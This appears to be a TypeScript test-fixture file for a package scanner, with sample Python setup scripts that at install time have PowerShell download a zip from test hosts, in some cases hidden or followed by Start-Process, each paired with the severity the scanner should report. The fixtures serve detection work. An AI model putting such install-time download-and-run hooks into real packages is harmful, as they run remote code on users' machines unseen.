import type { Sample } from '../contract.ts';
import { sdist } from '../samples-kit.ts';

const told = (severity: 'medium' | 'high', file: string, line: number): Sample['expected'][number] => ({
  rule: 'program',
  file,
  line,
  severity,
});

/** A setup script that has PowerShell run a script. */
const runs = (script: string, options = "'-Command'"): Sample['files'] =>
  sdist(
    `import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['powershell', ${options}, ${script}])\nsetup(name='own')\n`,
  );

const download = (address: string): string =>
  `(new-object System.Net.WebClient).DownloadFile('${address}', 'own.zip')`;
const REGISTRY = download('https://pypi.weir.test/own.zip');

/** A setup script that has a function of another file fetch something. */
const boots = (address: string, more = ''): Sample['files'] =>
  sdist(`from boot import fetch\nfetch(${address})\nfrom setuptools import setup\nsetup(name='own')\n`, {
    'boot.py': `import subprocess\ndef fetch(url):\n    script = "(new-object Net.WebClient).DownloadFile(%(url)r, 'own.zip')" % vars()\n    subprocess.check_call(['powershell', '-Command', script])\n${more}`,
  });

/** PowerShell that fetches: no more than curl does, or more. */
export const fetcherSamples: readonly Sample[] = [
  {
    name: 'a file of a registry that PowerShell stores',
    files: runs(`"${REGISTRY}"`),
    expected: [told('medium', 'setup.py', 3)],
  },
  {
    name: 'a file of a registry that a helper has PowerShell store',
    files: boots("'https://pypi.weir.test/own.zip'"),
    expected: [told('medium', 'setup.py', 2), told('medium', 'boot.py', 4)],
  },
  {
    name: 'a file of another server that PowerShell stores',
    files: runs(`"${download('https://files.weir.test/own.zip')}"`),
    expected: [told('high', 'setup.py', 3)],
  },
  {
    name: 'a file of a registry that is fetched in the open',
    files: runs(`"${download('http://pypi.weir.test/own.zip')}"`),
    expected: [told('high', 'setup.py', 3)],
  },
  {
    name: 'a file of a registry that PowerShell stores and starts',
    files: runs(`"${REGISTRY}; Start-Process own.zip"`),
    expected: [told('high', 'setup.py', 3)],
  },
  {
    name: 'a file of a registry that a hidden PowerShell stores',
    files: runs(`"${REGISTRY}"`, "'-WindowStyle', 'Hidden', '-Command'"),
    expected: [told('high', 'setup.py', 3)],
  },
  {
    name: 'a file of an address that nobody knows',
    files: runs(`"(new-object System.Net.WebClient).DownloadFile(%r, 'own.zip')" % input()`),
    expected: [told('high', 'setup.py', 3)],
  },
  {
    name: 'a file of another server that a helper has PowerShell store',
    files: boots("'https://files.weir.test/own.zip'"),
    expected: [told('high', 'setup.py', 2), told('medium', 'boot.py', 4)],
  },
  {
    name: 'a file of an address that nobody knows, by a helper',
    files: boots('input()'),
    expected: [told('high', 'setup.py', 2), told('medium', 'boot.py', 4)],
  },
  {
    name: 'a file of a server that the helper itself names when it is loaded',
    files: boots("'https://pypi.weir.test/own.zip'", "fetch('https://files.weir.test/own.zip')\n"),
    expected: [told('medium', 'setup.py', 2), told('high', 'boot.py', 4)],
  },
];
